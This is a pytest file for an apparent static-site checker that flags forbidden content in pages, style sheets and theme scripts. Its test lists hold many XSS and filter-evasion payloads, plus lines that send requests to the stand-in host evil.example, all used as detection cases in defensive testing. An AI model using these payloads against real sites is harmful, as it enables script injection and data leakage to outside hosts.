"""The last look at pages and style sheets: what the promise forbids is found however it is written, and nothing else is."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from kiprah.publish.close_reading import page_violations
from kiprah.publish.page_promises import is_plainly_sound, promise_violations

PAGE = '<!doctype html>\n<html lang="id" dir="ltr">\n<head>\n<meta charset="utf-8">\n<title>Halo</title>\n</head>\n<body class="page-home">{}</body>\n</html>\n'
FORBIDDEN = {
    "script": (
        "<script>alert(1)</script>",
        "<SCRIPT\n>alert(1)</SCRIPT>",
        '<script type="module">import "x"</script>',
        '<script type="text/javascript" type="application/ld+json">alert(1)</script>',
        "<svg><script>alert(1)</script></svg>",
        "<!--><script>alert(1)</script>-->",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java&#115;cript:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        "<a href=' &#1;JavaScript:alert(1)'>x</a>",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
        '<meta http-equiv="set-cookie" content="a=b">',
        # What is a space to Python and a letter to browsers.
        *(f'<p{space}class="x tabindex=0 autofocus onfocus=go() y">' for space in "\xa0\x0b\x1c\x1f\x85\u2028\u3000"),
        '<\u017fcript src="a.js"></\u017fcript>',
        # What stands in a script that has an address, or what browsers take for its end.
        '<svg><script src="a.js">go()</script></svg>',
        '<svg><title>x</title><script src="a.js">go()</script></svg>',
        '<svg><script src="a.js"></script></svg>',
        '<svg><script type="application/ld+json">{}</script></svg>',
        "<math><script src='a.js'></script></math>",
        '<script src="a.js">go()</script>',
        '<script src="a.js"> </script>',
        '<script src="a.js"/>',
        "<script src='a.js'>\n</script>",
        '<script src="a.js">',
        '<script type="application/ld+json">{}',
        '<script type="application/ld+json"></script/ ><img src=x onerror=go()>',
        '<script type="application/ld+json">{}</script x><script>go()</script>',
        '<script type="application/ld+json"><!--<script></script>--></script>',
        '<script type="application/ld+json"><p title="</script><img src=x onerror=go()>"></script>',
        '<script type="application/ld+json\x0b">go()</script>',
        '<script src="a.js"><!--<script </script><p title="</script><script>go()</script>">',
        '<script type="speculationrules" src="a.json"></script>',
        '<script type="importmap" src="a.json"></script>',
        # Other encodings, in which a quote is something else.
        '<meta charset="iso-2022-jp">',
        '<meta charset="utf-7"><meta charset="utf-8">',
        '<meta http-equiv="content-type" content="text/html; charset=iso-2022-jp">',
        '<p title="\x1b$B">x\x1b(B" onclick=go() x>',
        '<link charset="iso-2022-jp" rel="stylesheet" href="a.css">',
        # Texts that only their own end closes, wherever it stands.
        *(
            f'<{tag}><p title="</{tag}><img src=x onerror=go()>"></p></{tag}>'
            for tag in ("title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe", "plaintext", "style")
        ),
        "<textarea><p title='</textarea><img src=x onerror=go()>'></textarea>",
        "<noscript><p title='</NOSCRIPT x'></noscript>",
        "<noscript><!-- </noscript><p> --></noscript>",
        "<title><!--</title><img src=x onerror=go()>--></title>",
        # What one mends in this way and another in that.
        "<a\0 onclick=go()>x</a>",
        '<p title="\0">',
        '<p title=a"b>',
        '<p title="a""b">',
        '<p "onclick=x">',
        "<p <b>",
        "<p title='a",
        "<p",
        "</p onclick=go()><img src='a.png' alt='>'>",
        "<?xml-stylesheet href='a.css'?>",
        "<![CDATA[ x ]]>",
        "<!-- a --!> x -->",
        "<!---> x -->",
        "<!-- a",
        '<meta http-equiv="content-security-policy" content="report-uri https://evil.example/">',
        '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'; REPORT-TO x">',
        '<meta http-equiv="default-style" content="a">',
        '<svg><set attributeName="onclick" to="go()"/></svg>',
        '<svg><animate attributeName="xlink:href" values="a"/></svg>',
    ),
    "style": ("<style>p{color:red}</style>", '<p style="color:red">x</p>', "<p STYLE = 'color:red'>x</p>"),
    "handler": (
        '<p onclick="go()">x</p>',
        "<img src=x onerror=alert(1)>",
        '<img src="x"onerror=alert(1)>',
        "<svg/onload=alert(1)>",
        "<body\nonload = 'x'>",
        "<p" + ' class="a"' * 100 + " onload=x>",
    ),
    "embedded": (
        '<iframe src="a.html"></iframe>',
        '<object data="a.pdf"></object>',
        '<embed src="a">',
        '<base href="https://evil.example/">',
        '<form action="a"></form>',
    ),
    "foreign": (
        '<script src="https://evil.example/a.js"></script>',
        '<script defer src="//evil.example/a.js"></script>',
        '<img src="https://evil.example/a.png" alt="x">',
        "<img src=https://evil.example/a.png>",
        '<img src="/\t/evil.example/a.png">',
        '<img src="\\\\evil.example/a.png">',
        '<img src="&#47;&#47;evil.example/a.png">',
        '<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">',
        '<source srcset="//evil.example/a.webp 480w">',
        '<video poster="https://evil.example/a.jpg" src="a.mp4"></video>',
        '<audio src="http://evil.example/a.mp3"></audio>',
        '<track src="https://evil.example/a.vtt">',
        '<link rel="stylesheet" href="https://evil.example/a.css">',
        '<link href="https://evil.example/a.css" rel=stylesheet>',
        '<link title="a>b" href="https://evil.example/a.css" rel="stylesheet">',
        '<link rel="preconnect" href="https://evil.example">',
        '<link rel="alternate stylesheet" href="https://evil.example/a.css">',
        '<link rel="preload" as="image" imagesrcset="https://evil.example/a 1x">',
        '<svg><use href="https://evil.example/a.svg#x"/></svg>',
        '<svg><image xlink:href="https://evil.example/a.png"/></svg>',
        '<svg><path fill="url(https://evil.example/a.svg#x)" d="M0 0"/></svg>',
        '<body background="https://evil.example/a.png">',
        '<a href="a.html" ping="https://evil.example/">x</a>',
        '<button formaction="https://evil.example/">x</button>',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        '<noscript><img src="https://evil.example/a.png"></noscript>',
        *(
            f'<meta http-equiv="refresh" content="{content}">'
            for content in (
                "0;https://evil.example/",
                "0 https://evil.example/",
                "0; https://evil.example/?x=y",
                "0, url=a.html",
                "0; url=//evil.example/",
                "0; url='//evil.example/'",
                "0; url=\\\\evil.example",
                "0; url=x;url=https://evil.example/",
                "0; url=a.html https://evil.example/",
                "\xa00; url=a.html",
            )
        ),
        *(
            f'<svg><rect mask="{mask}" width="9" height="9"/></svg>'
            for mask in (
                "\\75 rl(//evil.example/a.svg#m)",
                "u\\rl(a.svg#m)",
                "image-set('https://evil.example/a.png' 1x)",
                "image-set(&quot;a.png&quot; 1x)",
                "src('a.svg')",
                "url(a.svg#m)",
                "url/**/(//evil.example/a.svg)",
                "url(#a) url(//evil.example/a.svg)",
            )
        ),
        '<svg><rect fill="var(url(//evil.example/a))"/></svg>',
        '<img srcset="data:image/png;base64,AAAA 3x, //evil.example/s.png 1x">',
        '<img srcset="data:image/png;base64,AAAA 3x, https://evil.example/s.png 1x" src="a.png">',
        '<img srcset="a.png 1x (,) , https://evil.example/x.png 2x">',
        '<img srcset=", https://evil.example/x.png">',
        '<img srcset="a.png,https://evil.example/x.png">',
        '<svg><image><set attributeName="href" to="//evil.example/x.png"/></image></svg>',
        '<svg><image><animate attributeName="href" values="a.png;https://evil.example/x.png"/></image></svg>',
        '<svg><rect><set attributeName="filter" to="url(https://evil.example/x)"/></rect></svg>',
        '<a href="x" attributionsrc="https://evil.example/">x</a>',
        '<img src="a.png" attributionsrc="a https://evil.example/">',
        '<a href="x" ping="a //evil.example/">x</a>',
        '<p made-up="https://evil.example/">x</p>',
        '<link rel="next" href="https://evil.example/2.html">',
        '<link rel="prev" href="//evil.example/2.html">',
        '<link rel="stylesheet" href="data:image/x;,@import url(a)">',
    ),
}
ALLOWED = (
    '<a href="https://example.org/?a=1&amp;b=2" rel="noopener">x</a>',
    '<a href="mailto:a@example.org">x</a> <a href="tel:+62812">x</a> <a href="whatsapp://send?text=a">x</a>',
    '<link rel="canonical" href="https://a.example/"><link rel="alternate" hreflang="en" href="https://a.example/en/">',
    '<link rel="me" href="https://mastodon.example/@a"><link rel="stylesheet" href="../assets/a-1.css">',
    '<link rel="preload" as="font" type="font/woff2" crossorigin href="assets/a.woff2">',
    '<script defer src="../assets/a-1.js"></script>',
    '<script type="application/ld+json">{"@id": "https://a.example/", "text": "style= onclick= \\u003cscript>"}</script>',
    '<meta property="og:image" content="https://a.example/a.jpg">',
    '<meta http-equiv="refresh" content="0; url=../a/index.html">',
    '<img src="data:image/svg+xml,%3Csvg%3E" alt="">',
    '<img src="/media/a.jpg" srcset="/media/a.jpg 480w, /media/b.jpg 960w" sizes="(min-width: 48rem) 42rem, 100vw" alt="x">',
    "<p>The words onclick=, style= and src=https://evil.example stand in a text: &lt;script&gt;</p>",
    '<textarea id="caption" readonly rows="7">onload= https://a.example</textarea>',
    "<!-- a remark -->",
    '<svg viewBox="0 0 2 2"><rect width="2" height="2" fill="#fff"/><path class="on" d="M0 0h2"/></svg>',
    '<svg><g mask="url(#m)" fill="var(--ink)" transform="translate(1, 2) rotate(-45 1 1)"><title>a < b</title></g></svg>',
    '<img src="a.png" alt="a < b, c > d: it\'s \\ (5) https://a.example/">',
    "<img src=a.png alt='say \"a\"' width=1 height=1 />",
    '<img src="a.png?size=2&amp;x=1" srcset="a.png?size=2 1x, b,c.png 2x,d.png 480w 20h" alt="">',
    '<img srcset="data:image/png;base64,AA//AA 1x, a.png 2x" alt="">',
    '<link rel="next" href="../2/index.html"><link rel="icon" href="data:image/png;base64,AA">',
    '<script type="module" src="a.js"></script ><script src=\'b.js\' type="text/javascript"></script>',
    '<script type="application/ld+json">{"a": "1 < 2, <3"}</script>',
    '<meta http-equiv="content-security-policy" content="default-src \'self\'">',
    '<META HTTP-EQUIV="content-type" CONTENT="text/html; charset=utf-8">',
    "<noscript><p>Without scripts.</p></noscript><!-- <p class='old'>a</p> -->",
    "a < b, 3 <4, c <> d & e",
    '<IMG SRC="a.png" ALT=""><input value="a (b)" pattern="[a-z]\\.x" placeholder="https://">',
    '<a href="//a.example/x">x</a><svg><a href="https://a.example/"><text>x</text></a></svg>',
)


@pytest.mark.parametrize(
    ("kind", "html"), [(kind, html) for kind, group in FORBIDDEN.items() for html in group], ids=lambda text: text[:40]
)
def test_what_the_promise_forbids_is_found(kind: str, html: str) -> None:
    found = promise_violations("activities/a/index.html", PAGE.format(html))
    assert kind in {violation.kind for violation in found}
    assert all(violation.line >= 1 and len(violation.text) <= 80 for violation in found)


@pytest.mark.parametrize("html", ALLOWED, ids=lambda text: text[:40])
def test_what_pages_are_made_of_is_left_in_peace(html: str) -> None:
    assert promise_violations("index.html", PAGE.format(html)) == ()


def test_the_place_is_named() -> None:
    found = promise_violations("index.html", PAGE.format('\n<p>\n<img src="https://evil.example/a.png" alt="">'))
    assert [(v.kind, v.text, v.line) for v in found] == [("foreign", "https://evil.example/a.png", 9)]
    assert len(promise_violations("index.html", PAGE.format("<p style=''>" * 30))) == 5


@pytest.mark.parametrize(
    "css",
    [
        "@import 'https://evil.example/a.css';",
        "@import url(//evil.example/a.css);",
        "p{background:url( 'https://evil.example/a.png' )}",
        "p{background:URL(//evil.example/a.png)}",
        "p{background:u\\72l(https://evil.example/a.png)}",
        "p{background:url(ht\\74ps://evil.example/a.png)}",
        "p{background:image-set('https://evil.example/a.png' 1x)}",
        "p{behavior:url(a.htc)}",
        "p{background:image-set('a.png' 3x, 'https://evil.example/a.png' 1x)}",
        "p{background:image-set(url(a.png) 3x, 'https://evil.example/a.png' type('image/png') 1x)}",
        "p{background:-webkit-image-set('//evil.example/a.png' 1x)}",
        "p{background:image-set('\\68ttps://evil.example/a.png' 1x)}",
        "p{--a:'https://evil.example/a.png';background:image-set(var(--a) 1x)}",
        'p{--a:"/*";background:url(//evil.example/a.png);--b:"*/"}',
        "p{background:\\/*url(a);}p{background:url(//evil.example/a.png)}/**/",
        "p{content:'url(\"';background:url(//evil.example/a.png);--b:'\")'}",
        "p{--x:'url(\"a';background:url(//evil.example/a.png);--y:'\"'}",
        '#url(/*) " */{}p{background:url(//evil.example/a.png)}/*"*/',
        "p{background:url(//evil.example/a.png",
        'p{background:url("//evil.example/a.png',
        "p{background:url('/\\\n/evil.example/a.png')}",
        "p{background:url(/\\2f evil.example/a.png)}",
        "p{background:url('/\\2f evil.example/a.png')}",
        "p{content:'a} p{color:red}",
        # Where each escape could be read in many ways, that would take for ever.
        "p{content:'" + "\\201c" * 50,
        "p{} /* a",
        "p{color:red\\",
        "p{--a:\0}",
        "@\\69mport 'https://evil.example/a.css';",
        "@import/**/'//evil.example/a.css';",
        "@import 'data:text/css,a';",
        "@import url(data:image/x,a);",
        "@charset 'shift_jis';",
        "\u00d7url(//evil.example/a.png)",
    ],
)
def test_style_sheets_ask_no_other_host(css: str) -> None:
    (found, *_) = promise_violations("assets/a.css", f"\n{css}")
    assert found.line == 2 and found.kind in ("foreign", "script")


def test_style_sheets_may_name_their_own_files() -> None:
    css = '/* url(https://a.example) */ @font-face{src:url("a-1.woff2") format("woff2")} p{background:url(data:image/png;base64,AA);scroll-behavior:smooth}'
    assert promise_violations("assets/a.css", css) == ()
    assert promise_violations("notes.txt", "<script>") == ()


@pytest.mark.parametrize(
    "css",
    [
        '@charset "utf-8"; @import "b.css" layer(x); p::before{content:"\\201c"} q{content:"\\"/* "}',
        '/* it\'s "one * */ p{content:"a: //"} p::after{content:\'"\'}',
        'a[href^="https://"]::after{content:" \\2197"} a[href^=\'//\']{color:red}',
        ".md\\:flex{display:flex} .w-1\\/2{inline-size:calc(50% - (2px * 3))} .\\32xl{color:red}",
        'p{background:image-set(url(a.avif) type("image/avif"), "a.png" 2x) , url( "b(1).png" )}',
        "p{mask:url(\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E\")} p{fill:url(#a)}",
        "@font-face{src:url(a.woff2)format('woff2');unicode-range:U+20-7e,U+4??}",
    ],
)
def test_style_sheets_are_read_as_browsers_read_them(css: str) -> None:
    assert promise_violations("assets/a.css", css) == ()


@pytest.mark.parametrize(
    "script",
    [
        'import "https://evil.example/a.js";',
        "fetch('//evil.example/a')",
        "new WebSocket(`wss://${host}/a`)",
        "import(`//${host}/a.js`)",
        'fetch("https:\\/\\/evil.example")',
        'fetch("\\/\\/evil.example")',
    ],
)
def test_scripts_of_a_theme_name_no_other_host(script: str) -> None:
    (found, *_) = promise_violations("assets/a.js", f"\n{script}\n")
    assert found.line == 2 and found.kind == "foreign"


def test_scripts_of_a_theme_may_name_their_own_files() -> None:
    script = 'import "./a.js"; fetch(`/b/${c}?d=e`); f("a://") // "x" https://a.example\nns = "http://www.w3.org/2000/svg"; s = "//"; "use strict" // all'
    assert promise_violations("assets/a.js", script) == ()
    themes = Path(__file__).parents[2] / "themes"
    ours = sorted(path for path in themes.rglob("assets/**/*") if path.suffix in (".js", ".css"))
    assert len(ours) > 10
    assert [path for path in ours if promise_violations(path.name, path.read_text("utf-8"))] == []


def test_what_is_sound_at_a_glance_is_sound_when_read_closely() -> None:
    for html in (html for group in FORBIDDEN.values() for html in group):
        assert not is_plainly_sound(PAGE.format(html)), html
    glanced = [html for html in ALLOWED if is_plainly_sound(PAGE.format(html))]
    assert len(glanced) > 8
    assert [html for html in ALLOWED if page_violations(PAGE.format(html))] == []


@pytest.mark.slow
def test_the_examples_pages_are_sound_at_a_glance_and_quickly(example: Path) -> None:
    pages = [path.read_text("utf-8") for path in sorted(example.rglob("*.html"))]
    assert len(pages) > 100
    # Only an old address that leads on is taken apart.
    assert [page for page in pages if not is_plainly_sound(page) and 'http-equiv="refresh"' not in page] == []
    assert not [found for page in pages for found in promise_violations("index.html", page)]
    assert not [found for page in pages for found in page_violations(page)]
    begun = time.process_time()
    for page in pages:
        promise_violations("index.html", page)
    # 0.2 ms each where it was written; taken apart, such a page takes fifty times as long.
    assert (time.process_time() - begun) / len(pages) < 0.002
